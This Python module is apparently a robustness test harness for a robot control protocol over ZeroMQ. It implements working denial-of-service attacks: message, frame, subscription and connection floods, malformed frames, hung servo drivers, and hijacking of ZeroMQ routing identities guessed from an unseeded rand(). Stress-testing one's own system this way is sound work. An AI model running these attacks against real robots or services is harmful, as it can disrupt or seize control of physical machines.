"""Attacks on a robot: ``python -m bench.attackers NAME URI OTHER``, until standard input ends.

OTHER is where telemetry is published, for ``subscriptions``, or where faults are injected, for
``idle_faults``.

Prints ``under way`` when an attack goes on, and at the end what it did. ``RawPeer`` is a ZMTP 3
peer on a plain socket, which does what ZeroMQ's own sockets would not. It knows the NULL mechanism
only: without keys anybody can do what is done here; with keys it takes a known one.
"""

from __future__ import annotations

import ctypes
import itertools
import socket
import struct
import sys
import threading
from collections import deque
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from typing import Final

from protocol.errors import RobotError
from protocol.sockets.zmq_sockets import Endpoint
from protocol.transport.client import RobotClient
from protocol.wire.codec import MAX_FRAME, MAX_MESSAGE, encode

GREETING: Final = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
MORE, LONG, COMMAND = 1, 2, 4
MEGABYTE: Final = bytes(1_000_000)
EMPTY_MAPS: Final = b"\x81\xa1a" + b"\xdc\x00\x40" + 64 * (b"\xdc\x03\xf8" + b"\x80" * 1016)
HELLO: Final = encode({"type": "hello", "id": 1, "client": "attacker", "versions": [1]})
SUBSCRIPTIONS: Final = 20_000  # bytes at a time

Attack = Callable[[str], Iterator[None]]


class RawPeer:
    """A connection on which the handshake has been sent.

    Args:
        endpoint: Address of the robot.
        kind: Socket type that the peer claims to be.
        identity: Routing id that the peer claims.
    """

    def __init__(self, endpoint: str, kind: bytes = b"DEALER", identity: bytes = b""):
        place = Endpoint.parse(endpoint)
        self.socket = socket.create_connection((place.host, place.port), timeout=10)
        ready = b"\x05READY" + _property(b"Socket-Type", kind) + _property(b"Identity", identity)
        self.socket.sendall(GREETING + frame(ready, COMMAND))
        heard = self._take(len(GREETING))
        assert heard[:1] == b"\xff", heard
        self.receive()  # its READY

    def send(self, body: bytes, flags: int = 0) -> None:
        """Sends one frame."""
        self.socket.sendall(frame(body, flags))

    def receive(self) -> bytes:
        """The body of the next frame."""
        flags = self._take(1)[0]
        size = struct.unpack(">Q", self._take(8))[0] if flags & LONG else self._take(1)[0]
        return self._take(size)

    def close(self) -> None:
        """Closes the connection."""
        self.socket.close()

    def _take(self, size: int) -> bytes:
        data = b""
        while len(data) < size:
            piece = self.socket.recv(size - len(data))
            if not piece:
                raise ConnectionError("the robot hung up")
            data += piece
        return data


def frame(body: bytes, flags: int = 0) -> bytes:
    """One frame as it goes over TCP."""
    if len(body) > 255:
        return bytes([flags | LONG]) + struct.pack(">Q", len(body)) + body
    return bytes([flags, len(body)]) + body


def guessed_identities(*, sockets: int, connections: int, first: int = 0) -> Iterator[bytes]:
    """Routing ids that ZeroMQ would give the next peers of a process that never called ``srand``.

    A ROUTER counts its peers from a number that two calls of ``rand`` give.

    Args:
        sockets: Number of starting numbers to try, as other sockets may have drawn some before.
        connections: Number of peers to guess for each starting number.
        first: Number of peers that have been given ids before.
    """
    libc = ctypes.CDLL(None)
    libc.srand(1)
    for _ in range(sockets):
        low, high = libc.rand(), libc.rand()
        for number in range(first, first + connections):
            yield b"\0" + struct.pack(">I", ((low | high << 31) + number) & 0xFFFFFFFF)


def _property(name: bytes, value: bytes) -> bytes:
    return bytes([len(name)]) + name + struct.pack(">I", len(value)) + value


def identities(uri: str) -> Iterator[None]:
    """Claims the routing ids that ZeroMQ would give the next peers, then has it give some."""
    named = 0
    while True:
        held: list[RawPeer] = []
        claims = [*guessed_identities(sockets=10, first=named, connections=10), *(10 * [b""])]
        for identity in claims:
            with suppress(OSError):
                held.append(RawPeer(uri, identity=identity))
            named += not identity
            yield
        for peer in held:
            peer.close()


def parts(uri: str) -> Iterator[None]:
    """Messages of 3,000 parts of 1 MB."""
    while True:
        with suppress(OSError):
            peer = RawPeer(uri)
            for _ in range(2_999):
                peer.send(MEGABYTE, MORE)
                yield
            peer.send(MEGABYTE)


def empty_parts(uri: str) -> Iterator[None]:
    """Messages of millions of empty parts."""
    while True:
        with suppress(OSError):
            peer = RawPeer(uri)
            for _ in range(10_000):
                peer.socket.sendall(1000 * frame(b"", MORE))
                yield


def unfinished(uri: str) -> Iterator[None]:
    """A hundred messages of almost 1 MB that never end."""
    held: deque[RawPeer] = deque(maxlen=100)
    while True:
        with suppress(OSError):
            held.append(RawPeer(uri))
            held[-1].send(bytes(MAX_MESSAGE - 1000), MORE)
            yield


def subscriptions(uri: str) -> Iterator[None]:
    """Subscriptions to topics that nobody else wants, 500 MB if they are taken."""
    topics = (b"\1" + number.to_bytes(8, "big") * 10 for number in itertools.count())
    while True:
        with suppress(OSError):
            peer = RawPeer(uri, b"SUB")
            while True:
                piece = b"".join(frame(next(topics)) for _ in range(SUBSCRIPTIONS // 83))
                peer.socket.sendall(piece)
                yield


def empty_maps(uri: str) -> Iterator[None]:
    """Frames of 64 KiB of empty maps, as many as are taken, on ten connections."""
    assert len(EMPTY_MAPS) <= MAX_FRAME
    yield from _on_ten(uri, 10 * frame(EMPTY_MAPS))


def garbage(uri: str) -> Iterator[None]:
    """The smallest frames that are no message, as many as are taken, on ten connections."""
    yield from _on_ten(uri, 1000 * frame(b"\xc1"))


def unread(uri: str) -> Iterator[None]:
    """Sends hello endlessly, on ten connections, and never reads an answer."""
    yield from _on_ten(uri, 1000 * frame(HELLO), reads=False)


def connections(uri: str) -> Iterator[None]:
    """Opens connections that send nothing, as fast as possible."""
    place = Endpoint.parse(uri)
    held: deque[socket.socket] = deque()
    while True:
        with suppress(OSError):
            held.append(socket.create_connection((place.host, place.port), timeout=10))
        if len(held) > 500:
            held.popleft().close()
        yield


def hanging_driver(uri: str) -> Iterator[None]:
    """Asks for a motion, of servos whose driver does not return."""
    with RobotClient(uri) as client:
        client.acquire()
        moving = threading.Thread(target=_moved, args=(client,), daemon=True)
        moving.start()
        while True:
            yield
            moving.join(0.05)


def dying_driver(uri: str) -> Iterator[None]:
    """Asks for motions again and again, of servos whose driver raises ``SystemExit``."""
    with RobotClient(uri) as client:
        client.acquire()
        while True:
            _moved(client)
            with suppress(RobotError):
                client.clear()
            yield


def _moved(client: RobotClient) -> None:
    with suppress(RobotError):
        client.perform({joint.name: 0.5 for joint in client.capabilities.joints})


ATTACKS: Final[Mapping[str, Attack]] = {
    "identities": identities,
    "parts": parts,
    "empty_parts": empty_parts,
    "unfinished": unfinished,
    "subscriptions": subscriptions,
    "empty_maps": empty_maps,
    "garbage": garbage,
    "unread": unread,
    "connections": connections,
    "idle_faults": connections,
    "hanging_driver": hanging_driver,
    "dying_driver": dying_driver,
}
ON_OTHER: Final = ("subscriptions", "idle_faults")
"""Attacks on OTHER, in the place of URI."""


def _on_ten(uri: str, piece: bytes, *, reads: bool = True) -> Iterator[None]:
    peers = [RawPeer(uri) for _ in range(10)]
    for peer in peers:
        peer.socket.setblocking(False)
    unsent = dict.fromkeys(range(len(peers)), b"")
    while True:
        for number, peer in enumerate(peers):
            try:
                remaining = unsent[number] or piece
                unsent[number] = remaining[peer.socket.send(remaining) :]
                while reads and peer.socket.recv(1 << 20):
                    continue
            except BlockingIOError:
                continue
            except OSError:
                peers[number] = RawPeer(uri)
                peers[number].socket.setblocking(False)
                unsent[number] = b""
        yield


def main() -> None:
    """Attacks until standard input ends."""
    name, uri, other = sys.argv[1:]
    ended = threading.Event()

    def listen() -> None:
        sys.stdin.read()
        ended.set()

    threading.Thread(target=listen, daemon=True).start()
    count = 0
    for count, _ in enumerate(ATTACKS[name](other if name in ON_OTHER else uri)):
        if count == 10:
            print("under way", flush=True)
        if ended.is_set():
            break
    print(f"{count} steps", flush=True)


if __name__ == "__main__":
    main()
